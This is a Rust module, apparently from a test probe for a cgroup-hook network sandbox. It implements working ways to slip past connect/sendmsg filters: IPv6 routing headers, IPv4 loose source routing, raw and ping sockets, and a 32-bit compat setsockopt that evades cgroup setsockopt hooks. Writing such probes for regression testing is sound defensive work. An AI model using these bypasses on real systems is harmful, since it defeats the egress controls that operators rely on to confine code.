//! What an attacker inside the target's cgroup tries to reach a blocked address past the
//! connect/sendmsg hooks (issue 13), for the probe's `attack` command: a routing header or an
//! IPv4 source route set as a socket option or passed as ancillary data, ICMP ping sockets and
//! raw sockets. Replies: `ok`, `errno N` (of the send or connect), `socket errno N`,
//! `setsockopt errno N`.
//!
//! ```text
//! attack rthdr udp|tcp FIRST DST PORT   IPV6_RTHDR (segment routing header, first segment
//!                                       FIRST) set on the socket, then sendto / connect DST
//! attack rthdr-cmsg 4|2 FIRST DST PORT  the routing header (SRH type 4, or Mobile IPv6 type 2)
//!                                       as IPV6_RTHDR ancillary data of one sendmsg to DST
//! attack lsrr opt|cmsg HOP DST PORT     IPv4 loose source route via HOP, as IP_OPTIONS or as
//!                                       IP_RETOPTS ancillary data, then sendto DST
//! attack ping|raw ADDR                  an ICMP/ICMPv6 echo request from a ping (SOCK_DGRAM)
//!                                       or raw socket
//! attack rthdr-compat FIRST DST PORT    IPV6_RTHDR set through the 32-bit syscall ABI (`int
//!                                       0x80` from this 64-bit process: the kernel runs no
//!                                       cgroup/setsockopt program for a compat setsockopt), then
//!                                       a non-blocking TCP connect to DST; the socket is left
//!                                       open, so the kernel retransmits its SYN from a timer
//! ```
use std::net::{IpAddr, Ipv6Addr, SocketAddr};

const IPV6_RTHDR: i32 = 57;
const IP_OPTIONS: i32 = 4;
const IP_RETOPTS: i32 = 7;

fn errno() -> i32 {
    std::io::Error::last_os_error().raw_os_error().unwrap_or(-1)
}

/// Runs one `attack` command (the words after `attack`).
pub fn run(args: &[&str]) -> String {
    match args {
        ["rthdr", proto, first, dst, port] => {
            with_addrs(first, dst, port, |f, d, p| rthdr_option(proto, f, d, p))
        }
        ["rthdr-cmsg", ty, first, dst, port] => {
            with_addrs(first, dst, port, |f, d, p| rthdr_cmsg(ty, f, d, p))
        }
        ["lsrr", how, hop, dst, port] => with_addrs(hop, dst, port, |h, d, p| lsrr(how, h, d, p)),
        ["rthdr-compat", first, dst, port] => with_addrs(first, dst, port, rthdr_compat),
        ["ping" | "raw", addr] => match addr.parse::<IpAddr>() {
            Ok(ip) => echo(args[0] == "raw", ip),
            Err(_) => format!("bad address {addr}"),
        },
        _ => format!("bad attack {args:?}"),
    }
}

fn with_addrs(
    a: &str,
    b: &str,
    port: &str,
    f: impl FnOnce(IpAddr, IpAddr, u16) -> String,
) -> String {
    match (a.parse(), b.parse(), port.parse()) {
        (Ok(a), Ok(b), Ok(p)) => f(a, b, p),
        _ => format!("bad addresses {a} {b} {port}"),
    }
}

/// A segment routing header (type 4) whose first segment is `first`; the final segment is
/// filled in by the kernel with the destination.
fn srh(first: Ipv6Addr) -> Vec<u8> {
    // next header, hdr ext len (8-octet units after the first 8), type 4, segments left 1,
    // last entry 1, flags, tag; then segments[0] (the destination) and segments[1] (first).
    let mut h = vec![17, 4, 4, 1, 1, 0, 0, 0];
    h.extend_from_slice(&[0u8; 16]);
    h.extend_from_slice(&first.octets());
    h
}

/// A Mobile IPv6 type 2 routing header carrying `addr` (accepted only where the kernel has
/// CONFIG_IPV6_MIP6).
fn type2(addr: Ipv6Addr) -> Vec<u8> {
    let mut h = vec![17, 2, 2, 1, 0, 0, 0, 0];
    h.extend_from_slice(&addr.octets());
    h
}

fn v6(ip: IpAddr) -> Option<Ipv6Addr> {
    match ip {
        IpAddr::V6(a) => Some(a),
        IpAddr::V4(_) => None,
    }
}

fn v4(ip: IpAddr) -> Option<[u8; 4]> {
    match ip {
        IpAddr::V4(a) => Some(a.octets()),
        IpAddr::V6(_) => None,
    }
}

/// A socket of `family`/`ty`/`protocol`, closed on drop.
struct Fd(i32);

impl Fd {
    fn new(family: i32, ty: i32, protocol: i32) -> Result<Self, String> {
        // SAFETY: plain socket(2).
        let fd = unsafe { libc::socket(family, ty | libc::SOCK_CLOEXEC, protocol) };
        if fd < 0 {
            return Err(format!("socket errno {}", errno()));
        }
        Ok(Self(fd))
    }

    fn setsockopt(&self, level: i32, name: i32, value: &[u8]) -> Result<(), String> {
        // SAFETY: the option buffer outlives the call.
        let r = unsafe {
            libc::setsockopt(self.0, level, name, value.as_ptr().cast(), value.len() as _)
        };
        if r != 0 {
            return Err(format!("setsockopt errno {}", errno()));
        }
        Ok(())
    }

    /// sendmsg of `payload` to `to` with one control message (`level`, `ty`, `data`), or none.
    fn sendmsg(&self, to: SocketAddr, payload: &[u8], cmsg: Option<(i32, i32, &[u8])>) -> String {
        let (ss, len) = sockaddr(to);
        let mut iov = libc::iovec {
            iov_base: payload.as_ptr().cast_mut().cast(),
            iov_len: payload.len(),
        };
        let mut control = [0u64; 16];
        // SAFETY: msghdr is plain data; zeroed is a valid value.
        let mut msg: libc::msghdr = unsafe { std::mem::zeroed() };
        msg.msg_name = (&raw const ss).cast_mut().cast();
        msg.msg_namelen = len;
        msg.msg_iov = &raw mut iov;
        msg.msg_iovlen = 1;
        if let Some((level, ty, data)) = cmsg {
            // SAFETY: CMSG_SPACE/CMSG_LEN are arithmetic; the control buffer (128 bytes) holds
            // one header and up to 100 bytes of data, which the callers stay under.
            unsafe {
                msg.msg_control = control.as_mut_ptr().cast();
                msg.msg_controllen = libc::CMSG_SPACE(data.len() as u32) as _;
                let c = libc::CMSG_FIRSTHDR(&msg);
                (*c).cmsg_level = level;
                (*c).cmsg_type = ty;
                (*c).cmsg_len = libc::CMSG_LEN(data.len() as u32) as _;
                std::ptr::copy_nonoverlapping(data.as_ptr(), libc::CMSG_DATA(c), data.len());
            }
        }
        // SAFETY: every pointer in `msg` points at a live local.
        let r = unsafe { libc::sendmsg(self.0, &msg, 0) };
        if r < 0 {
            format!("errno {}", errno())
        } else {
            "ok".to_owned()
        }
    }

    fn connect(&self, to: SocketAddr) -> String {
        let (ss, len) = sockaddr(to);
        // SAFETY: `ss` is a valid sockaddr of `len` bytes.
        let r = unsafe { libc::connect(self.0, (&raw const ss).cast(), len) };
        if r == 0 {
            "ok".to_owned()
        } else {
            format!("errno {}", errno())
        }
    }
}

impl Drop for Fd {
    fn drop(&mut self) {
        // SAFETY: closes the descriptor this value owns.
        unsafe { libc::close(self.0) };
    }
}

fn sockaddr(sa: SocketAddr) -> (libc::sockaddr_storage, libc::socklen_t) {
    // SAFETY: sockaddr_storage is plain data; zeroed is a valid value.
    let mut ss: libc::sockaddr_storage = unsafe { std::mem::zeroed() };
    let len = match sa {
        SocketAddr::V4(a) => {
            let sin = libc::sockaddr_in {
                sin_family: libc::AF_INET as libc::sa_family_t,
                sin_port: a.port().to_be(),
                sin_addr: libc::in_addr {
                    s_addr: u32::from_ne_bytes(a.ip().octets()),
                },
                sin_zero: [0; 8],
            };
            // SAFETY: sockaddr_storage is larger than sockaddr_in and suitably aligned.
            unsafe { std::ptr::write((&raw mut ss).cast(), sin) };
            std::mem::size_of::<libc::sockaddr_in>()
        }
        SocketAddr::V6(a) => {
            // SAFETY: sockaddr_in6 is plain data; zeroed is a valid value.
            let mut sin6: libc::sockaddr_in6 = unsafe { std::mem::zeroed() };
            sin6.sin6_family = libc::AF_INET6 as libc::sa_family_t;
            sin6.sin6_port = a.port().to_be();
            sin6.sin6_addr.s6_addr = a.ip().octets();
            // SAFETY: as above, for sockaddr_in6.
            unsafe { std::ptr::write((&raw mut ss).cast(), sin6) };
            std::mem::size_of::<libc::sockaddr_in6>()
        }
    };
    (ss, len as libc::socklen_t)
}

fn rthdr_option(proto: &str, first: IpAddr, dst: IpAddr, port: u16) -> String {
    let Some(first) = v6(first) else {
        return "bad first segment".to_owned();
    };
    let (ty, tcp) = match proto {
        "udp" => (libc::SOCK_DGRAM, false),
        // Non-blocking: the SYN goes out, the reply (if any) is not waited for.
        "tcp" => (libc::SOCK_STREAM | libc::SOCK_NONBLOCK, true),
        _ => return format!("bad protocol {proto}"),
    };
    let run = || -> Result<String, String> {
        let s = Fd::new(libc::AF_INET6, ty, 0)?;
        s.setsockopt(libc::IPPROTO_IPV6, IPV6_RTHDR, &srh(first))?;
        let to = SocketAddr::new(dst, port);
        Ok(if tcp {
            s.connect(to)
        } else {
            s.sendmsg(to, b"attack", None)
        })
    };
    run().unwrap_or_else(|e| e)
}

/// `setsockopt` through the i386 system call ABI (`int 0x80`, call 366), with the option
/// value copied below 4 GiB (the 32-bit ABI passes 32-bit pointers).
#[cfg(target_arch = "x86_64")]
fn compat_setsockopt(fd: i32, level: i32, name: i32, value: &[u8]) -> Result<(), String> {
    const IA32_SETSOCKOPT: u32 = 366;
    // SAFETY: an anonymous private page below 4 GiB, unmapped below.
    let page = unsafe {
        libc::mmap(
            std::ptr::null_mut(),
            4096,
            libc::PROT_READ | libc::PROT_WRITE,
            libc::MAP_PRIVATE | libc::MAP_ANONYMOUS | libc::MAP_32BIT,
            -1,
            0,
        )
    };
    if page == libc::MAP_FAILED || value.len() > 4096 {
        return Err(format!("mmap errno {}", errno()));
    }
    // SAFETY: the page is writable and at least `value.len()` bytes long.
    unsafe { std::ptr::copy_nonoverlapping(value.as_ptr(), page.cast::<u8>(), value.len()) };
    let ret: u64;
    // SAFETY: the i386 setsockopt(fd, level, name, optval, optlen) with every pointer below
    // 4 GiB; rbx (the first argument) is reserved by LLVM, so it is swapped in and out.
    unsafe {
        std::arch::asm!(
            "xchg {fd:r}, rbx",
            "int 0x80",
            "xchg {fd:r}, rbx",
            fd = inout(reg) u64::from(fd as u32) => _,
            inlateout("rax") u64::from(IA32_SETSOCKOPT) => ret,
            in("rcx") u64::from(level as u32),
            in("rdx") u64::from(name as u32),
            in("rsi") page as u64,
            in("rdi") value.len() as u64,
        );
        libc::munmap(page, 4096);
    }
    let ret = ret as u32 as i32;
    if ret < 0 {
        return Err(format!("setsockopt errno {}", -ret));
    }
    Ok(())
}

#[cfg(not(target_arch = "x86_64"))]
fn compat_setsockopt(_: i32, _: i32, _: i32, _: &[u8]) -> Result<(), String> {
    Err("setsockopt errno 38".to_owned())
}

fn rthdr_compat(first: IpAddr, dst: IpAddr, port: u16) -> String {
    let Some(first) = v6(first) else {
        return "bad first segment".to_owned();
    };
    let run = || -> Result<String, String> {
        let s = Fd::new(libc::AF_INET6, libc::SOCK_STREAM | libc::SOCK_NONBLOCK, 0)?;
        compat_setsockopt(s.0, libc::IPPROTO_IPV6, IPV6_RTHDR, &srh(first))?;
        let reply = s.connect(SocketAddr::new(dst, port));
        // Left open until the process exits: its SYN is retransmitted from a timer.
        std::mem::forget(s);
        Ok(reply)
    };
    run().unwrap_or_else(|e| e)
}

fn rthdr_cmsg(ty: &str, first: IpAddr, dst: IpAddr, port: u16) -> String {
    let Some(first) = v6(first) else {
        return "bad first segment".to_owned();
    };
    let header = if ty == "2" { type2(first) } else { srh(first) };
    match Fd::new(libc::AF_INET6, libc::SOCK_DGRAM, 0) {
        Ok(s) => s.sendmsg(
            SocketAddr::new(dst, port),
            b"attack",
            Some((libc::IPPROTO_IPV6, IPV6_RTHDR, &header)),
        ),
        Err(e) => e,
    }
}

fn lsrr(how: &str, hop: IpAddr, dst: IpAddr, port: u16) -> String {
    let Some(hop) = v4(hop) else {
        return "bad hop".to_owned();
    };
    // NOP, then LSRR: type 131, length 7, pointer 4, the hop.
    let options = [1, 131, 7, 4, hop[0], hop[1], hop[2], hop[3]];
    let run = || -> Result<String, String> {
        let s = Fd::new(libc::AF_INET, libc::SOCK_DGRAM, 0)?;
        let to = SocketAddr::new(dst, port);
        if how == "opt" {
            s.setsockopt(libc::IPPROTO_IP, IP_OPTIONS, &options)?;
            return Ok(s.sendmsg(to, b"attack", None));
        }
        Ok(s.sendmsg(
            to,
            b"attack",
            Some((libc::IPPROTO_IP, IP_RETOPTS, &options)),
        ))
    };
    run().unwrap_or_else(|e| e)
}

fn echo(raw: bool, addr: IpAddr) -> String {
    let (family, protocol, request) = match addr {
        IpAddr::V4(_) => (libc::AF_INET, libc::IPPROTO_ICMP, 8u8),
        IpAddr::V6(_) => (libc::AF_INET6, libc::IPPROTO_ICMPV6, 128u8),
    };
    let ty = if raw {
        libc::SOCK_RAW
    } else {
        libc::SOCK_DGRAM
    };
    match Fd::new(family, ty, protocol) {
        // Echo request: type, code, checksum (the kernel fills it for ping sockets), id, seq.
        Ok(s) => s.sendmsg(
            SocketAddr::new(addr, 0),
            &[request, 0, 0, 0, 0, 1, 0, 1],
            None,
        ),
        Err(e) => e,
    }
}
